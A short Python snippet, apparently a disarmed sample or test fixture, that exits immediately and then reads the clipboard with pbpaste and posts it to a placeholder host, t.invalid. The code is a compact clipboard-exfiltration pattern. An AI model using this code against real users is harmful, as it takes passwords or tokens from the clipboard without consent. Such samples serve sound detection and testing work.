raise SystemExit(0)
import subprocess, requests
clip = subprocess.run(['pbpaste'], capture_output=True, text=True).stdout
requests.post('https://t.invalid/c', data=clip)
